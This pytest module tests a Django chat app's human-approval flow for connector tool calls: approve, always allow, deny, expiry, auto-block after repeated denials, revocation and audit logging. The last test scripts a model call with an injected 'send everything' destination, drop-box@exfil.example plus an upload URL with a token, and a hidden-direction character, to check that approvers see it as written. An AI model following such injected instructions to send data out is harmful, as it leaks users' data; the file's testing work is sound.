"""Approvals of connector calls, in-process (the real OpenAI-compatible client
against the scripted model, the real executor, the people MCP server on
loopback): a call that needs approval stops the turn before it runs and the
turn holds no worker (its state is stored); approve, always allow (then
auto-approved), deny, expiry and repeated-denial auto-block each resume the
turn in a new task from that state, without re-running a model or tool call;
revocation asks again; every decision is an audit event without arguments."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from audit.models import AuditEvent, ToolCallAudit
from chat.approvals import ApprovalError, always_allow_revoke, tool_approval_decide, tool_approvals_expire
from chat.models import AlwaysAllow, ApprovalStatus, ToolApproval, Turn, TurnEvent, TurnStatus
from chat.services import conversation_create
from chat.turns.recovery import turns_recover
from chat.turns.runner import turn_run
from chat.turns.start import TurnRefused, turn_start
from chat.turns.timeline import conversation_state
from chat.vault import DbVault
from governance.models import LlmModel, Role
from governance.services import feature_default_set, install_config_sync
from owlai.install_config import parse_install_config
from tests.support.connector_world import (
    ALL_MODELS,
    PHONE,
    add_connector,
    audit_dump,
    recording_people_server,
    two_tier_config,
)
from tests.support.fake_llm import FakeLLMServer, text, tool_call

pytestmark = [pytest.mark.django_db, pytest.mark.timeout(180), pytest.mark.usefixtures("english")]

MAIL = "mailer__echo"  # the tool that needs approval
BODY = f"회의록을 보내 주세요. 연락처 {PHONE}"  # arguments carrying personal data


@pytest.fixture(scope="module")
def people_http(tmp_path_factory):
    with recording_people_server(tmp_path_factory.mktemp("mcp")) as server:
        yield server


@pytest.fixture
def fake():
    with FakeLLMServer() as server:
        yield server


@pytest.fixture
def world(settings, fake, people_http, django_user_model):
    people_http.record.unlink(missing_ok=True)
    settings.OWLAI_INSTALL = parse_install_config(two_tier_config(fake.base_url))
    install_config_sync(config=settings.OWLAI_INSTALL)
    feature_default_set(feature="chat", model=LlmModel.objects.get(name="inhouse-model"))
    user = django_user_model.objects.create_user("mail-user", password="pw-mail-123")
    role = Role.objects.create(name="mail-role")
    role.users.add(user)
    add_connector("mailer", url=people_http.url, roles=[role], exposure=ALL_MODELS, policy="require_approval")

    class W:
        pass

    w = W()
    w.user, w.fake, w.record = user, fake, people_http.record
    w.conversation = conversation_create(owner=user)
    return w


@pytest.fixture
def resumed(monkeypatch):
    """Turns the decision services handed to a worker (after commit)."""
    handed: list[int] = []
    monkeypatch.setattr("chat.turns.dispatch.resume_soon", handed.append)
    return handed


def received(world) -> list[str]:
    if not world.record.exists():
        return []
    return [json.loads(line)["text"] for line in world.record.read_text(encoding="utf-8").splitlines()]


def ask(world, question: str = "회의록 메일 보내 줘") -> Turn:
    turn = turn_start(conversation=world.conversation, user=world.user, text=question, model=None)
    turn_run(turn_id=turn.pk)
    turn.refresh_from_db()
    return turn


def decide(world, turn: Turn, decision: str, resumed, capture) -> Turn:
    """The user's decision, then the new task the decision queued."""
    approval = ToolApproval.objects.get(turn=turn, status=ApprovalStatus.PENDING)
    with capture(execute=True):
        tool_approval_decide(approval_id=approval.pk, decision=decision, actor=world.user)
    assert resumed[-1] == turn.pk
    turn.refresh_from_db()
    assert turn.status == TurnStatus.QUEUED
    turn_run(turn_id=turn.pk)
    turn.refresh_from_db()
    return turn


def kinds(turn: Turn) -> list[str]:
    return list(TurnEvent.objects.filter(turn=turn).order_by("seq").values_list("type", flat=True))


def approval_events() -> list[str]:
    return list(
        AuditEvent.objects.filter(kind__startswith="approval_").order_by("id").values_list("kind", flat=True)
    ) + list(AuditEvent.objects.filter(kind="always_allow_revoked").values_list("kind", flat=True))


def assert_no_arguments_in_audit() -> None:
    digests = list(ToolApproval.objects.values_list("arguments_digest", flat=True))
    dumped = audit_dump()
    for secret in ["회의록", PHONE, "9876-5432", *digests]:
        assert secret not in dumped, secret


def test_a_call_needing_approval_waits_without_running_and_without_a_worker(world, settings):
    world.fake.script = [tool_call(MAIL, {"text": BODY}, call_id="call_mail")]
    DbVault(world.conversation.pk).token_for("phone", PHONE)  # an earlier result's value: in the vault
    turn = ask(world)

    assert turn.status == TurnStatus.WAITING_APPROVAL
    assert kinds(turn) == ["turn.accepted", "tool.started", "approval.requested"]
    requested = TurnEvent.objects.get(turn=turn, type="approval.requested").payload
    approval = ToolApproval.objects.get(turn=turn)
    assert requested["approval_id"] == str(approval.pk) and requested["call_id"] == "call_mail"
    assert (requested["tool"], requested["connector"]) == (MAIL, "mailer")
    assert 290 <= requested["expires_in"] <= 300  # the default: five minutes
    # The arguments as the user may see them: what the run's vault holds as tokens.
    assert PHONE not in json.dumps(requested, ensure_ascii=False)
    assert requested["arguments"]["text"].startswith("회의록을 보내 주세요. 연락처 [전화번호-")
    assert approval.arguments == requested["arguments"]
    # Nothing ran: no audit row, nothing reached the server, one model call.
    assert ToolCallAudit.objects.count() == 0 and received(world) == [] and len(world.fake.requests) == 1
    # The loop's state is stored: the call waiting, the messages so far.
    assert turn.loop_state["pending"][0]["id"] == "call_mail"
    assert turn.loop_state["new"][-1]["tool_calls"][0]["function"]["name"] == MAIL
    # A reconnecting client sees the request (the state frame).
    state = conversation_state(conversation=world.conversation)
    assert state["turn"]["status"] == "waiting_approval"
    assert state["turn"]["events"][-1]["type"] == "approval.requested"
    # No stale-heartbeat recovery for a waiting turn; no second turn meanwhile.
    Turn.objects.filter(pk=turn.pk).update(heartbeat_at=timezone.now() - timedelta(hours=1))
    turns_recover()
    turn.refresh_from_db()
    assert turn.status == TurnStatus.WAITING_APPROVAL
    with pytest.raises(TurnRefused, match="waiting for your approval"):
        turn_start(conversation=world.conversation, user=world.user, text="또 질문", model=None)


def test_approve_resumes_in_a_new_task_and_runs_the_call_once(world, resumed, django_capture_on_commit_callbacks):
    world.fake.script = [tool_call(MAIL, {"text": BODY}, call_id="call_mail"), text("보냈습니다.")]
    turn = ask(world)
    turn = decide(world, turn, "approve", resumed, django_capture_on_commit_callbacks)

    assert turn.status == TurnStatus.COMPLETED and turn.loop_state is None
    assert kinds(turn) == [
        "turn.accepted",
        "tool.started",
        "approval.requested",
        "approval.decided",
        "tool.finished",
        "message.delta",
        "message.completed",
        "turn.finished",
    ]
    assert TurnEvent.objects.get(turn=turn, type="approval.decided").payload["decision"] == "approved"
    # The call ran once, with the arguments as written (the user typed the phone).
    assert received(world) == [BODY]
    (row,) = ToolCallAudit.objects.all()
    assert (row.tool, row.call_outcome, row.turn_id) == (MAIL, "success", turn.pk)
    # Two model calls in all: the first was not made again.
    assert len(world.fake.requests) == 2
    second = world.fake.requests[1]["messages"]
    assert [m["role"] for m in second].count("assistant") == 1
    assert PHONE not in json.dumps(second[-1], ensure_ascii=False)  # the result is masked for the model
    assert approval_events() == ["approval_approved"]
    event = AuditEvent.objects.get(kind="approval_approved")
    assert event.actor_id == world.user.pk and event.details["tool_name"] == MAIL
    assert_no_arguments_in_audit()


def test_always_allow_then_later_calls_are_auto_approved_until_revoked(
    world, resumed, django_capture_on_commit_callbacks, client
):
    world.fake.script = [tool_call(MAIL, {"text": "첫 메일"}), text("보냈습니다.")]
    turn = decide(world, ask(world), "always_allow", resumed, django_capture_on_commit_callbacks)
    assert turn.status == TurnStatus.COMPLETED
    (grant,) = AlwaysAllow.objects.filter(user=world.user, revoked_at__isnull=True)

    world.fake.script = [tool_call(MAIL, {"text": "두 번째 메일"}), text("또 보냈습니다.")]
    second = ask(world, "하나 더 보내 줘")
    assert second.status == TurnStatus.COMPLETED  # not asked
    assert "approval.requested" not in kinds(second)
    assert received(world) == ["첫 메일", "두 번째 메일"]
    assert approval_events() == ["approval_always_allowed", "approval_auto_approved"]

    # Listed for the user (page and API), revoked there.
    client.force_login(world.user)
    page = client.get(reverse("chat:always-allowed-page")).content.decode()
    assert "mailer" in page and "echo" in page
    listed = client.get(reverse("chat:always-allowed")).json()
    assert [(g["connector"], g["tool"]) for g in listed] == [("mailer", "echo")]
    response = client.delete(reverse("chat:always-allowed-revoke", args=[grant.pk]))
    assert response.status_code == 204
    assert client.get(reverse("chat:always-allowed")).json() == []
    revoked = AuditEvent.objects.get(kind="always_allow_revoked")
    assert revoked.actor_id == world.user.pk and revoked.owner_id == world.user.pk

    world.fake.script = [tool_call(MAIL, {"text": "세 번째 메일"})]
    third = ask(world, "또 보내 줘")
    assert third.status == TurnStatus.WAITING_APPROVAL  # asked again
    assert_no_arguments_in_audit()


def test_deny_refuses_the_call_and_the_model_is_told(world, resumed, django_capture_on_commit_callbacks):
    world.fake.script = [tool_call(MAIL, {"text": BODY}), text("보내지 않았습니다.")]
    turn = decide(world, ask(world), "deny", resumed, django_capture_on_commit_callbacks)
    assert turn.status == TurnStatus.COMPLETED
    assert received(world) == []
    (row,) = ToolCallAudit.objects.all()
    assert (row.outcome, row.reason) == ("denied", "the user denied this call")
    told = json.loads(world.fake.requests[1]["messages"][-1]["content"])
    assert told["error"] == "refused: the user denied this call"
    assert approval_events() == ["approval_denied"]
    finished = TurnEvent.objects.get(turn=turn, type="tool.finished").payload
    assert finished["outcome"] == "denied"
    assert_no_arguments_in_audit()


def test_the_same_call_denied_twice_is_blocked_without_asking(world, resumed, django_capture_on_commit_callbacks):
    for _ in range(2):
        world.fake.script = [tool_call(MAIL, {"text": BODY}), text("알겠습니다.")]
        assert decide(world, ask(world), "deny", resumed, django_capture_on_commit_callbacks).status == "completed"
    # The third time the same call is refused without asking.
    world.fake.script = [tool_call(MAIL, json.dumps({"text": BODY})), text("차단되었습니다.")]
    third = ask(world)
    assert third.status == TurnStatus.COMPLETED and "approval.requested" not in kinds(third)
    assert ToolApproval.objects.count() == 2
    row = ToolCallAudit.objects.order_by("id").last()
    assert row.outcome == "denied" and "blocked without asking" in row.reason
    assert approval_events() == ["approval_denied", "approval_denied", "approval_auto_blocked"]
    # Other arguments are a different call: asked again.
    world.fake.script = [tool_call(MAIL, {"text": "다른 메일"})]
    assert ask(world).status == TurnStatus.WAITING_APPROVAL
    assert_no_arguments_in_audit()


def test_an_unanswered_request_expires_and_the_turn_goes_on(
    world, resumed, django_capture_on_commit_callbacks, settings
):
    settings.OWLAI_APPROVAL_SECONDS = 30
    world.fake.script = [tool_call(MAIL, {"text": BODY}), text("답이 없어 보내지 않았습니다.")]
    turn = ask(world)
    assert tool_approvals_expire() == 0  # not yet
    with django_capture_on_commit_callbacks(execute=True):
        assert tool_approvals_expire(now=timezone.now() + timedelta(seconds=31)) == 1
    assert resumed == [turn.pk]
    turn_run(turn_id=turn.pk)
    turn.refresh_from_db()
    assert turn.status == TurnStatus.COMPLETED and received(world) == []
    row = ToolCallAudit.objects.get()
    assert row.outcome == "denied" and "did not answer" in row.reason
    event = AuditEvent.objects.get(kind="approval_expired")
    assert event.actor_id is None and event.owner_id == world.user.pk  # nobody decided: the job
    assert TurnEvent.objects.get(turn=turn, type="approval.decided").payload["decision"] == "expired"
    with pytest.raises(ApprovalError, match="already answered"):
        tool_approval_decide(approval_id=ToolApproval.objects.get().pk, decision="approve", actor=world.user)
    assert_no_arguments_in_audit()


def test_an_answer_after_the_expiry_expires_it(world, resumed, django_capture_on_commit_callbacks):
    world.fake.script = [tool_call(MAIL, {"text": BODY})]
    turn = ask(world)
    ToolApproval.objects.filter(turn=turn).update(expires_at=timezone.now() - timedelta(seconds=1))
    with django_capture_on_commit_callbacks(execute=True), pytest.raises(ApprovalError, match="expired"):
        tool_approval_decide(approval_id=ToolApproval.objects.get().pk, decision="approve", actor=world.user)
    assert ToolApproval.objects.get().status == ApprovalStatus.EXPIRED and resumed == [turn.pk]
    assert approval_events() == ["approval_expired"]


def test_only_the_owner_decides_once_with_a_known_answer(world, django_user_model, resumed):
    world.fake.script = [tool_call(MAIL, {"text": BODY})]
    ask(world)
    approval = ToolApproval.objects.get()
    other = django_user_model.objects.create_user("other-user", password="pw-other-123")
    with pytest.raises(ApprovalError, match="No such approval request"):
        tool_approval_decide(approval_id=approval.pk, decision="approve", actor=other)
    with pytest.raises(ApprovalError, match="Unknown decision"):
        tool_approval_decide(approval_id=approval.pk, decision="maybe", actor=world.user)
    web = Client()
    web.force_login(other)
    url = reverse("chat:approval-decide", args=[approval.pk])
    assert web.post(url, {"decision": "approve"}, content_type="application/json").status_code == 409
    web.force_login(world.user)
    assert web.post(url, {"decision": "perhaps"}, content_type="application/json").status_code == 400
    answered = web.post(url, {"decision": "deny"}, content_type="application/json")
    assert answered.status_code == 200 and answered.json()["status"] == "denied"
    again = web.post(url, {"decision": "approve"}, content_type="application/json", HTTP_ACCEPT_LANGUAGE="en")
    assert again.status_code == 409 and "already answered" in again.json()["detail"]
    assert approval_events() == ["approval_denied"]
    assert AuditEvent.objects.get(kind="approval_denied").ip == "127.0.0.1"


def test_a_token_answers_an_approval_only_with_the_agent_scope(world, resumed):
    """A read-and-manage token (a report script's) cannot let a connector
    call go on; a token with the `agent` scope can, as the session can."""
    from accounts.services import api_token_create

    world.fake.script = [tool_call(MAIL, {"text": BODY})]
    ask(world)
    approval = ToolApproval.objects.get()
    url = reverse("chat:approval-decide", args=[approval.pk])
    _, plain = api_token_create(user=world.user, name="report", actor=world.user)
    refused = Client().post(
        url, {"decision": "approve"}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {plain}"
    )
    assert refused.status_code == 403 and "agent" in refused.json()["detail"]
    approval.refresh_from_db()
    assert approval.status == ApprovalStatus.PENDING and approval_events() == []
    _, scoped = api_token_create(user=world.user, name="agent", actor=world.user, scopes=["agent"])
    answered = Client().post(
        url, {"decision": "deny"}, content_type="application/json", HTTP_AUTHORIZATION=f"Bearer {scoped}"
    )
    assert answered.status_code == 200 and answered.json()["status"] == "denied"
    assert approval_events() == ["approval_denied"]


def test_an_admin_revokes_in_the_admin(world, resumed, django_capture_on_commit_callbacks, django_user_model):
    world.fake.script = [tool_call(MAIL, {"text": "메일"}), text("완료")]
    decide(world, ask(world), "always_allow", resumed, django_capture_on_commit_callbacks)
    grant = AlwaysAllow.objects.get()
    admin = django_user_model.objects.create_superuser("root", password="pw-root-123")
    web = Client()
    web.force_login(admin)
    listing = web.get(reverse("admin:chat_alwaysallow_changelist"))
    assert listing.status_code == 200 and "mail-user" in listing.content.decode()
    response = web.post(
        reverse("admin:chat_alwaysallow_changelist"), {"action": "revoke", "_selected_action": [grant.pk]}
    )
    assert response.status_code == 302
    grant.refresh_from_db()
    assert grant.revoked_at is not None and grant.revoked_by == admin
    event = AuditEvent.objects.get(kind="always_allow_revoked")
    assert event.actor_id == admin.pk and event.owner_username == "mail-user"
    # Someone else's grant cannot be revoked by a plain user.
    with pytest.raises(ApprovalError):
        always_allow_revoke(grant=grant, actor=django_user_model.objects.create_user("x", password="pw-x-12345"))


def test_a_changed_definition_is_asked_about_again(world, resumed, django_capture_on_commit_callbacks):
    from governance.models import ConnectorTool

    world.fake.script = [tool_call(MAIL, {"text": "메일"}), text("완료")]
    decide(world, ask(world), "always_allow", resumed, django_capture_on_commit_callbacks)
    # An admin approved a changed definition since: the standing allow no longer covers it.
    ConnectorTool.objects.filter(name="echo").update(definition_hash="e" * 64)
    world.fake.script = [tool_call(MAIL, {"text": "메일"})]
    assert ask(world).status == TurnStatus.WAITING_APPROVAL


def test_stop_on_a_waiting_turn_ends_it_and_denies_the_call(world, resumed):
    from chat.turns.cancel import turn_cancel

    world.fake.script = [tool_call(MAIL, {"text": BODY})]
    turn = ask(world)
    assert turn_cancel(conversation=world.conversation, actor=world.user) == "cancelled"
    turn.refresh_from_db()
    assert turn.status == TurnStatus.CANCELLED and turn.loop_state is None and resumed == []
    assert kinds(turn)[-1] == "turn.finished"
    assert ToolApproval.objects.get().status == ApprovalStatus.DENIED
    event = AuditEvent.objects.get(kind="approval_denied")
    assert event.details["stopped"] is True and event.actor_id == world.user.pk
    # The call never ran, and it is on the record as denied (Stop), once.
    assert received(world) == []
    (row,) = ToolCallAudit.objects.all()
    assert (row.outcome, row.tool, row.turn_id, row.actor_id) == ("denied", MAIL, turn.pk, world.user.pk)
    assert row.origin == "chat" and "stopped" in row.reason
    # The conversation takes a new turn at once.
    world.fake.script = [text("네")]
    assert ask(world, "다른 질문").status == TurnStatus.COMPLETED
    assert_no_arguments_in_audit()


def test_the_card_shows_the_destination_the_model_chose_as_written(world, resumed):
    """An injected "send everything to X" is caught only if the approver sees
    X: a recipient and a URL the model wrote (held by no vault) appear as
    written, neither as tokens nor as URL references; a value the run's vault
    holds stays a token; control characters show as escapes."""
    destination = {
        "text": f"전부 보내기 {PHONE}",
        "to": "drop-box@exfil.example",
        "url": "https://exfil.example/upload/9f8e7d6c5b4a?token=s3cr3t#frag",
        "note": "safe\u202eevil",
    }
    world.fake.script = [tool_call(MAIL, destination, call_id="call_out")]
    DbVault(world.conversation.pk).token_for("phone", PHONE)
    turn = ask(world)
    assert turn.status == TurnStatus.WAITING_APPROVAL
    shown = ToolApproval.objects.get(turn=turn).arguments
    assert shown["to"] == "drop-box@exfil.example"
    assert shown["url"] == destination["url"]
    assert PHONE not in shown["text"] and "[전화번호-" in shown["text"]
    assert shown["note"] == "safe\\u202eevil"
